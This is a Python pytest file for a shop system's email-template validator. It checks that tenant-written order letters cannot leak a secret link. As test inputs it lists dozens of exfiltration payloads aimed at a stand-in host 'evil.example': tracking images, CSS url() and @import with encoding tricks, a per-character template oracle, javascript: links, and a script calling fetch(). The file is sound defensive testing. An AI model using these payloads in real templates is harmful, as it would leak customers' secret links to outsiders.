"""A letter tells nobody but its reader what it says: not by what it loads, nor by where its links lead."""

import string
from dataclasses import replace

import pytest

from fondaco_core.secret import Secret
from fondaco_tenants.delivery import TemplateInvalid, default_words
from fondaco_tenants.delivery.rules import SAMPLE, Words, check_words, fill

LINK = "{{ link.url }}"
ORACLE = "".join(
    f'{{% if "#{char}" in link.url %}}<b>{char}</b>{{% endif %}}' for char in string.ascii_letters + string.digits
)


def letter(html: str = LINK, text: str = LINK) -> Words:
    return Words("Order {{ order.code }}", text, LINK + "\n" + html)


@pytest.mark.parametrize(
    "html",
    [
        f'<img src="https://evil.example/a/{LINK}">',
        '<img src="https://evil.example/{{ link.url|trim("htps:/.") }}">',
        '<b>{{ link.url|trim("htps:/.") }}</b>',
        '<b>{{ order.code|trim("FD") }}</b>',
        "{{ order.code|default(link.url)|upper }}",
        "{{ gift.message|upper }}",
        "{% if gift.message == 'yes' %}x{% endif %}",
        ORACLE,
        "{{ 'x' if link < 'https' else 'y' }}",
        f'<a href="https://evil.example/{LINK}">open</a>',
        f'<a href="{LINK}&amp;x">open</a>',
        f'<a href=" {LINK}">open</a>',
        f"<a href={LINK}>open</a>",
        f'<a title="{LINK}" href="https://shop.example">open</a>',
        '<a title="{{ link }}" href="https://shop.example">open</a>',
        '<a href="https://evil.example/{{ gift.message }}">open</a>',
        '<a href="javascript:alert(1)">open</a>',
        f'<link rel="prefetch" href="{LINK}">',
        f'<base href="{LINK}">',
        f'<td background="{LINK}">x</td>',
        f'<form action="{LINK}"><input name="x"></form>',
        f'<meta http-equiv="refresh" content="0;url={LINK}">',
        f'<meta name="x" content="{LINK}">',
        f"<p style=\"background: url('https://evil.example/{LINK}')\">x</p>",
        '<p style="background: u&#114;l(https://evil.example)">x</p>',
        '<p style="background: \\75rl(https://evil.example)">x</p>',
        f"<style>p {{ content: '{LINK}' }}</style>",
        "<style>@import 'https://evil.example';</style>",
        f"<title>{LINK}</title>",
        "<style>p { color: red }",
        "<script>fetch('https://evil.example')</script>",
        '<p onclick="x()">x</p>',
        '<img srcset="https://evil.example/pixel 1x">',
        '<svg><image href="https://evil.example/pixel"></image></svg>',
        f"<!-- {LINK} -->",
        f"<img src='https://evil.example/{LINK}",
        f'<a href="https://evil.example/>{LINK}">open</a>',
        f"<p>https://evil.example/{LINK}</p>",
        f"<p>https://evil.example/<b></b><span>{LINK}</span></p>",
        f"<p>https:&#47;&#47;evil.example&#47;{LINK}</p>",
        f"{{% if gift %}}<img src='https://evil.example/{LINK}'>{{% endif %}}",
    ],
)
def test_a_letter_that_would_tell_its_link_is_refused_when_it_is_saved(html: str) -> None:
    with pytest.raises(TemplateInvalid) as refused:
        check_words(letter(html))

    assert refused.value.part == "html"


@pytest.mark.parametrize("before", ["https://evil.example/", "evil.example?", "www.evil.example/a=", "evil。example#x"])
def test_a_plain_text_does_not_make_the_link_a_part_of_another_address(before: str) -> None:
    with pytest.raises(TemplateInvalid) as refused:
        check_words(letter(text=before + LINK))

    assert refused.value.part == "text"


def test_a_condition_that_no_sample_meets_does_not_get_the_link_out() -> None:
    words = letter(
        f'{{% if order.code != "{SAMPLE.order_code}" %}}<a href="https://evil.example/{LINK}">x</a>{{% endif %}}'
    )
    check_words(words)

    with pytest.raises(TemplateInvalid):
        fill(words, replace(SAMPLE, order_code="FD-AAAA-AAAA-AAAA", link_url=Secret("https://shop.example/r/1#secret")))


@pytest.mark.parametrize(
    "html",
    [
        f'<p>Here: <a class="b" href="{LINK}" style="color: #fff">open</a> or {LINK}</p>',
        f"<p>订单 {{{{ order.code }}}}：{LINK}</p>",
        f"<p>Thank you.</p><p>{LINK}</p>",
        f"<p>If it does nothing, copy this:<br><span>{LINK}</span></p>",
        "{% if link and not gift %}<b>{{ order.code|lower }}</b>{% endif %}",
        '<a href="mailto:{{ store.support }}">help</a>',
        "<p>{{ gift.name }}: {{ gift.message }} {{ store.support|default('-') }}</p>",
    ],
)
def test_letters_as_people_write_them_are_right(html: str) -> None:
    check_words(letter(html))


@pytest.mark.parametrize("locale", ["zh-CN", "en"])
def test_our_own_letters_keep_the_rules_for_gifts_and_replacements_too(locale: str) -> None:
    for gift in (False, True):
        for replacement in (False, True):
            facts = replace(
                SAMPLE,
                gift=gift,
                replacement=replacement,
                gift_name="<Li> a.b" if gift else "",
                gift_message="1 < 2 \" '",
            )

            assert fill(default_words(locale), facts).html
